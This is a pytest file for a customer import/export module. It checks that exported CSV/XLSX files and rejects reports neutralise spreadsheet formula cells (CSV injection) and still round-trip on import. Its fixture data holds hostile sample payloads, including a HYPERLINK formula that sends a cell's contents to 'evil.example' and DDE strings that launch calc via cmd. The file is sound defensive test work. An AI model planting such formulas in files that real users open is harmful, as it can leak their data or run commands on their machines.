"""Exports and reject reports never hand a spreadsheet a formula, and still import back as typed.

A cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is run as a formula
by Excel, LibreOffice and WPS when a CSV is opened (OWASP "CSV injection").  Such cells are written
with a leading ``'``; XLSX cells are always text cells.  The importer takes off the quote it added,
so a phone like ``+8613800138000`` survives the round trip.
"""

from __future__ import annotations

import csv
from pathlib import Path

import pytest
from sqlalchemy import select
from typer.testing import CliRunner

from core.importing.cells import neutralise, unquote
from core.importing.export import export_customers
from core.importing.runner import import_customers
from core.models import Customer
from core.packs.loader import get_registry
from core.tenancy import tenant_session

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
RISKY = {
    "X1": {
        "name": '=HYPERLINK("http://evil.example/?"&A1,"点我")',
        "city": "@SUM(1+1)*cmd|' /C calc'!A0",
        "address": "-2+3+cmd|' /C calc'!A0",
        "tags": ["+1+1", "=cmd"],
        "phones": ["13800138000"],
    },
    "X2": {"name": "'=already quoted", "city": "-", "phones": ["+886 912 345 678"]},
    "X3": {"name": "王芳", "city": "北京", "emails": ["wang@example.com"]},
}


@pytest.fixture
def risky_tenant(make_tenant, make_customer):
    tenant = make_tenant()
    for external_id, data in RISKY.items():
        make_customer(tenant, external_id=external_id, **data)
    return tenant


def _stored(engine, tenant) -> dict[str, tuple]:
    with tenant_session(engine, tenant.id) as session:
        return {
            c.external_id: (c.name, c.phone, c.email, c.city, c.address, c.tags)
            for c in session.scalars(select(Customer))
        }


def _dangerous(cell: str) -> bool:
    return cell[:1] in TRIGGERS


def test_csv_export_writes_no_cell_a_spreadsheet_would_run(guanxi_engine, risky_tenant, tmp_path):
    target = tmp_path / "out.csv"
    export_customers(engine=guanxi_engine, tenant=risky_tenant, target=target)
    with target.open(encoding="utf-8-sig", newline="") as handle:
        cells = [cell for row in csv.reader(handle) for cell in row]
    assert not [c for c in cells if _dangerous(c)]
    assert '\'=HYPERLINK("http://evil.example/?"&A1,"点我")' in cells
    assert "'+8613800138000" in cells and "'-" in cells


def test_xlsx_export_has_only_text_cells_and_no_formula(guanxi_engine, risky_tenant, tmp_path):
    from openpyxl import load_workbook

    target = tmp_path / "out.xlsx"
    export_customers(engine=guanxi_engine, tenant=risky_tenant, target=target)
    sheet = load_workbook(target).worksheets[0]
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert cells and {c.data_type for c in cells} == {"s"}
    assert not [c.value for c in cells if _dangerous(str(c.value))]


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_neutralised_cells_import_back_as_the_original_text(guanxi_engine, risky_tenant, tmp_path, suffix):
    before = _stored(guanxi_engine, risky_tenant)
    target = tmp_path / f"out{suffix}"
    export_customers(engine=guanxi_engine, tenant=risky_tenant, target=target)
    again = import_customers(
        engine=guanxi_engine, registry=get_registry(), tenant=risky_tenant, source=target
    )
    assert (again.created, again.updated, again.rejected, again.unchanged) == (0, 0, 0, 3)
    assert _stored(guanxi_engine, risky_tenant) == before
    assert before["X1"][1] == "+8613800138000" and before["X2"][1] == "+886912345678"


def test_an_exported_file_imported_into_another_tenant_stores_the_original_text(
    guanxi_engine, risky_tenant, make_tenant, tmp_path
):
    target = tmp_path / "out.csv"
    export_customers(engine=guanxi_engine, tenant=risky_tenant, target=target)
    other = make_tenant()
    report = import_customers(engine=guanxi_engine, registry=get_registry(), tenant=other, source=target)
    assert (report.created, report.rejected) == (3, 0)
    assert _stored(guanxi_engine, other) == _stored(guanxi_engine, risky_tenant)


@pytest.mark.parametrize(
    "text",
    ["=1+1", "+8613800138000", "-5", "@cmd", "\tx", "\rx", "'=x", "''+x", "'", "'plain", "plain", "", "-"],
)
def test_neutralising_is_undone_exactly_by_the_importer(text):
    written = neutralise(text)
    assert not _dangerous(written)
    assert unquote(written) == text


def test_the_rejects_report_of_an_upload_neutralises_what_the_file_said(make_tenant, make_user, api_client):
    client = api_client(make_user(make_tenant(), "manager"))
    content = "编号,姓名,手机\n=1+2,王芳,not-a-phone\n@A1,,13800138000\n".encode()
    body = client.post("/api/v1/imports/customers", files={"file": ("list.csv", content, "text/csv")}).json()
    assert body["rejected"] == 2
    report = client.get(f"/api/v1/imports/{body['job_id']}/rejects.csv").content.decode("utf-8-sig")
    cells = [cell for row in csv.reader(report.splitlines()) for cell in row]
    assert not [c for c in cells if _dangerous(c)]
    assert "'=1+2" in cells and "'@A1" in cells


def test_the_cli_rejects_file_neutralises_what_the_file_said(
    guanxi_engine, tenant, write_csv, tmp_path: Path
):
    from core.cli.main import build_cli

    source = write_csv([["编号", "姓名", "手机"], ["-1-1", "王芳", "not-a-phone"]])
    rejects = tmp_path / "rejects.csv"
    result = CliRunner().invoke(
        build_cli(), ["import", "customers", str(source), "--tenant", tenant.slug, "--rejects", str(rejects)]
    )
    assert result.exit_code == 0, result.output
    with rejects.open(encoding="utf-8-sig", newline="") as handle:
        cells = [cell for row in csv.reader(handle) for cell in row]
    assert "'-1-1" in cells and not [c for c in cells if _dangerous(c)]
